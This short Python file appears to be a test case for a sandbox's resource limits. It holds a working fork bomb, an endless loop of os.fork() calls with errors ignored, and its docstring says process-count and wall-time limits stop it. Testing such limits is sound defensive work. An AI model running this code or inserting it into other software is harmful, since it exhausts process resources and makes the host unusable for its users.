"""Forks in every child, without waiting or sleeping: the classic bomb.

Stopped by NPROC and the wall limit.
"""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
